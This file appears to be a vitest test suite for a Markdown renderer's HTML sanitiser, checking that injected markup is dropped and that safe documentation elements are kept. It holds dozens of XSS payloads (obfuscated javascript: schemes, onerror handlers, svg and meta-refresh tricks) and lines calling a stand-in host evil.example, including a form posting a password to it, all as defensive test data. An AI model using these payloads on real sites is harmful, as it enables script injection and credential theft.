import * as cheerio from 'cheerio';
import { describe, expect, it } from 'vitest';
import type { Diagnostic } from '../../cli/diagnostics.ts';
import { rendererFor } from '../../cli/load/markdown/render-job.ts';

const renderer = rendererFor({
  baseUrl: '/',
  format: 'detect',
  trailingSlash: null,
  highlight: true,
  allowedIframeHosts: ['www.youtube-nocookie.com'],
  fileRoutes: [],
  siteFiles: [],
});

async function render(text: string, relPath = 'docs/page.md') {
  const diagnostics: Diagnostic[] = [];
  const out = await renderer.render(text, { absPath: `/site/${relPath}`, relPath, display: relPath }, diagnostics);
  return { html: out.html, excerptHtml: out.excerptHtml, $: cheerio.load(out.html), diagnostics };
}

const FORBIDDEN_TAGS = ['script', 'style', 'form', 'meta', 'link', 'base', 'object', 'embed', 'svg', 'animate', 'set', 'math', 'frame', 'frameset', 'template', 'button', 'textarea', 'select', 'applet', 'portal'];
const URL_ATTRIBUTES = ['href', 'src', 'action', 'formaction', 'xlink:href', 'poster', 'background', 'data', 'cite', 'srcset', 'srcdoc', 'ping', 'codebase', 'dynsrc', 'lowsrc'];

/** Everything that could run script or leave the page, checked on the rendered HTML as a browser would parse it. */
function unsafeParts(html: string): string[] {
  const $ = cheerio.load(html);
  const found: string[] = [];
  $('*').each((_, el) => {
    if (el.type !== 'tag') return;
    if (FORBIDDEN_TAGS.includes(el.tagName.toLowerCase())) found.push(`<${el.tagName}>`);
    if (el.tagName === 'iframe' && !/^https:\/\/www\.youtube-nocookie\.com\//.test(el.attribs.src ?? '')) found.push('foreign iframe');
    if (el.tagName === 'input' && el.attribs.type !== 'checkbox') found.push('input');
    for (const [name, value] of Object.entries(el.attribs)) {
      const lower = name.toLowerCase();
      if (lower.startsWith('on')) found.push(`${name}=`);
      if (lower === 'srcdoc' || lower === 'formaction' || lower === 'action' || lower === 'http-equiv') found.push(`${name}=`);
      const compact = value.replace(/[\s\u0000-\u001f]/g, '').toLowerCase();
      if (URL_ATTRIBUTES.includes(lower) && /^(javascript|vbscript|data|livescript|file):/.test(compact)) found.push(`${name}=${value}`);
      if (lower === 'style' && /url\(|expression\(|javascript:|@import/i.test(value)) found.push(`style=${value}`);
    }
  });
  return found;
}

/** The vectors and a cheat-sheet's worth more (OWASP XSS filter evasion, HTML5 security cheat sheet). */
const VECTORS: [string, string][] = [
  ['svg animate href', '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text x="20" y="20">click</text></a></svg>'],
  ['svg set onmouseover', '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>'],
  ['svg onload', '<svg onload="alert(1)"></svg>'],
  ['svg script', '<svg><script>alert(1)</script></svg>'],
  ['svg xlink:href', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'],
  ['svg use data', '<svg><use href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"/></svg>'],
  ['page-wide style', '<style>body { display: none } a[href^="https"] { background: url(https://evil.example/x) }</style>'],
  ['form posting elsewhere', '<form action="https://evil.example/steal" method="post"><input name="password" type="password"><button>Log in</button></form>'],
  ['formaction', '<button formaction="javascript:alert(1)">x</button><input type="submit" formaction="javascript:alert(2)">'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ['meta refresh data', '<meta http-equiv="refresh" content="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">'],
  ['object data', '<object data="javascript:alert(1)"></object>'],
  ['object data html', '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>'],
  ['embed', '<embed src="javascript:alert(1)">'],
  ['embed svg', '<embed src="data:image/svg+xml,<svg onload=alert(1)>">'],
  ['data: link', '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
  ['data: image', '<img src="data:image/svg+xml,<svg onload=alert(1)>">'],
  ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['iframe javascript', '<iframe src="javascript:alert(1)"></iframe>'],
  ['iframe foreign host', '<iframe src="https://evil.example/"></iframe>'],
  ['iframe allowed host with handler', '<iframe src="https://www.youtube-nocookie.com/embed/x" onload="alert(1)" srcdoc="<b>x</b>"></iframe>'],
  ['mixed-case scheme', '<a href="JaVaScRiPt:alert(1)">x</a>'],
  ['scheme with tab', '<a href="jav\tascript:alert(1)">x</a>'],
  ['scheme with newline entity', '<a href="jav&#x0A;ascript:alert(1)">x</a>'],
  ['entity-encoded scheme', '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>'],
  ['hex entity scheme', '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>'],
  ['padded entity scheme', '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>'],
  ['named entity colon', '<a href="javascript&colon;alert(1)">x</a>'],
  ['leading space scheme', '<a href=" javascript:alert(1)">x</a>'],
  ['vbscript', '<a href="vbscript:msgbox(1)">x</a>'],
  ['markdown link scheme', '[x](javascript:alert(1)) [y](JAVASCRIPT:alert(1)) ![z](javascript:alert(1))'],
  ['markdown reference link', '[x][r]\n\n[r]: javascript:alert(1)'],
  ['autolink scheme', '<javascript:alert(1)>'],
  ['img onerror', '<img src="x" onerror="alert(1)">'],
  ['img onerror no quotes', '<img src=x onerror=alert(1)>'],
  ['body onload', '<body onload="alert(1)">'],
  ['details ontoggle', '<details open ontoggle="alert(1)"><summary>s</summary>x</details>'],
  ['video poster', '<video poster="javascript:alert(1)" src="x.mp4"></video>'],
  ['video source onerror', '<video><source onerror="alert(1)"></video>'],
  ['audio src', '<audio src="javascript:alert(1)"></audio>'],
  ['math href', '<math href="javascript:alert(1)"><mi>x</mi></math>'],
  ['base href', '<base href="https://evil.example/">'],
  ['link stylesheet', '<link rel="stylesheet" href="https://evil.example/x.css">'],
  ['link import', '<link rel="import" href="https://evil.example/x.html">'],
  ['style url', '<div style="background:url(javascript:alert(1))">x</div>'],
  ['style escaped url', '<div style="background:\\75 rl(https://evil.example/track)">x</div>'],
  ['style expression', '<div style="width: expression(alert(1))">x</div>'],
  ['style covering the page', '<div style="position: fixed; inset: 0; z-index: 9999">Log in again</div>'],
  ['style comment hidden url', '<div style="background:u/**/rl(https://evil.example/)">x</div>'],
  ['table background', '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>'],
  ['template', '<template><script>alert(1)</script></template>'],
  ['noscript break-out', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['textarea break-out', '<textarea><img src=x onerror=alert(1)></textarea>'],
  ['title break-out', '<title><img src=x onerror=alert(1)></title>'],
  ['comment break-out', '<!--><img src=x onerror=alert(1)>-->'],
  ['cdata', '<![CDATA[><img src=x onerror=alert(1)>]]>'],
  ['isindex', '<isindex type=image src=1 onerror=alert(1)>'],
  ['keygen', '<keygen autofocus onfocus=alert(1)>'],
  ['marquee', '<marquee onstart=alert(1)>x</marquee>'],
  ['input autofocus', '<input autofocus onfocus=alert(1)>'],
  ['select', '<select autofocus onfocus=alert(1)></select>'],
  ['frameset', '<frameset onload=alert(1)>'],
  ['a ping', '<a href="/ok" ping="https://evil.example/track">x</a>'],
  ['xmp', '<xmp><img src=x onerror=alert(1)></xmp>'],
  ['script in attribute name', '<div "onmouseover=alert(1)">x</div>'],
  ['uppercase handler', '<IMG SRC=x ONERROR=alert(1)>'],
  ['slash separated attribute', '<img/src="x"/onerror=alert(1)>'],
  ['nested script tags', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['mdx-less html in md', '<div dangerouslySetInnerHTML="{{__html: 1}}">x</div>'],
  ['dom clobbering form', '<form name="getElementById"></form><img name="cookie">'],
];

describe('allow-list sanitiser', () => {
  for (const [name, vector] of VECTORS) {
    it(`drops ${name}`, async () => {
      const { html, diagnostics } = await render(`# Title\n\nIntro.\n\n${vector}\n`);
      expect(unsafeParts(html)).toEqual([]);
      expect(html).not.toMatch(/<script|alert\(1\)"?\s*>?<\/script/i);
      for (const d of diagnostics) {
        expect(d.code).toBe('html-removed');
        expect(d.file).toBe('docs/page.md');
      }
    });
  }

  it('names each thing it drops with file and line', async () => {
    const text = ['# Title', '', 'Text.', '', '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>', '', '<style>body{display:none}</style>', '', '<img src="x.png" onerror="alert(1)">', ''].join('\n');
    const { diagnostics } = await render(text);
    const removed = diagnostics.filter((d) => d.code === 'html-removed');
    expect(removed.map((d) => [d.line, d.message])).toEqual([
      [5, '<svg> was removed (its text is kept)'],
      [5, '<set> was removed (its text is kept)'],
      [7, '<style> was removed with its content'],
      [9, 'attribute onerror removed from <img>'],
    ]);
    for (const d of removed) {
      expect(d.severity).toBe('warning');
      expect(d.file).toBe('docs/page.md');
      expect(d.hint).toBeTruthy();
    }
  });

  it('warns for markdown links with script schemes too', async () => {
    const { diagnostics, $ } = await render('Intro.\n\n[x](javascript:alert(1))\n');
    expect($('a').attr('href')).toBeUndefined();
    expect(diagnostics).toEqual([expect.objectContaining({ code: 'html-removed', line: 3, message: 'attribute href removed from <a>' })]);
  });

  it('keeps what documentation needs', async () => {
    const text = [
      '| a | b |', '| - | - |', '| 1 | 2 |', '',
      '<details open><summary>More</summary>', '', 'Inner.', '', '</details>', '',
      '<figure style="margin: 0 auto; max-width: 40rem"><img src="/img/map.png" alt="Map" width="600" height="400"><figcaption>A map</figcaption></figure>', '',
      '<table><thead><tr><th colspan="2" style="text-align:left">Layer</th></tr></thead><tbody><tr><td rowspan="2">x</td><td>y</td></tr></tbody></table>', '',
      '<div class="swatch" style="background:#f2efe9; width: 2rem; display: inline-block"></div> <kbd>Ctrl</kbd> <sub>2</sub> <sup>3</sup> <mark>m</mark>', '',
      '<iframe src="https://www.youtube-nocookie.com/embed/abc" width="560" height="315" allowfullscreen title="Video"></iframe>', '',
      '<a href="https://example.com/x" target="_blank" rel="noopener">ext</a> <a href="mailto:a@example.com">mail</a> <a id="anchor-here"></a>', '',
      '- [x] done', '- [ ] open', '',
      '<!-- an author note -->', '',
    ].join('\n');
    const { $, diagnostics } = await render(text);
    expect(diagnostics).toEqual([]);
    expect($('details[open] summary').text()).toBe('More');
    expect($('figure').attr('style')).toBe('margin: 0 auto; max-width: 40rem');
    expect($('figure img').attr('src')).toBe('/img/map.png');
    expect($('th[colspan="2"]').attr('style')).toBe('text-align:left');
    expect($('td[rowspan="2"]').text()).toBe('x');
    expect($('.swatch').attr('style')).toContain('background:#f2efe9');
    expect($('kbd').text()).toBe('Ctrl');
    expect($('iframe').attr('src')).toBe('https://www.youtube-nocookie.com/embed/abc');
    expect($('a[target="_blank"]').attr('href')).toBe('https://example.com/x');
    expect($('a[href^="mailto:"]').length).toBe(1);
    expect($('a#anchor-here').length).toBe(1);
    expect($('input[type="checkbox"]').length).toBe(2);
    expect($('input[type="checkbox"][disabled]').length).toBe(2);
  });

  it('removes iframes from hosts the config does not name, with a hint', async () => {
    const { $, diagnostics } = await render('Intro.\n\n<iframe src="https://maps.example.org/embed"></iframe>\n');
    expect($('iframe').length).toBe(0);
    expect(diagnostics).toEqual([
      expect.objectContaining({ code: 'html-removed', line: 3, message: '<iframe src="https://maps.example.org/embed"> was removed', hint: expect.stringContaining('allowedIframeHosts') }),
    ]);
  });

  it('keeps custom heading ids, and cuts the excerpt at the truncate marker without leaving it in the page', async () => {
    const { $, html, excerptHtml, diagnostics } = await render('## Custom {#mine}\n\nText\n\n<!-- truncate -->\n\nMore\n');
    expect($('h2#mine').length).toBe(1);
    expect(html).not.toContain('<!--');
    expect(excerptHtml).toContain('Text');
    expect(excerptHtml).not.toContain('More');
    expect(diagnostics).toEqual([]);
  });

  it('caps the warnings of one file', async () => {
    const text = Array.from({ length: 50 }, (_, i) => `<span onclick="x${i}()">s</span>`).join('\n\n');
    const { diagnostics } = await render(text);
    expect(diagnostics).toHaveLength(21);
    expect(diagnostics[20]?.message).toBe('30 more HTML elements or attributes were removed');
  });

  it('escapes text in highlighted code', async () => {
    const { $, html } = await render('```html\n<script>alert(1)</script><img src=x onerror=alert(2)>\n```\n');
    expect($('script').length).toBe(0);
    expect($('img').length).toBe(0);
    expect($('pre code').text()).toBe('<script>alert(1)</script><img src=x onerror=alert(2)>');
    expect(html).not.toContain('<script');
    expect(html).toContain('&#x3C;');
  });
});

describe('search results', () => {
  it('show titles and page names as text, never as markup', async () => {
    const { renderToStaticMarkup } = await import('react-dom/server');
    const { createElement, Fragment } = await import('react');
    const { highlight } = await import('../../renderer/client/search/SearchPanel.tsx');
    const html = renderToStaticMarkup(createElement(Fragment, null, ...highlight('<img src=x onerror=alert(1)> tiles', ['tiles', 'img'])));
    const $ = cheerio.load(html);
    expect($('img').length).toBe(0);
    expect($('mark').map((_, m) => $(m).text()).get()).toEqual(['tiles']);
    expect(html).toContain('&lt;');
  });
});
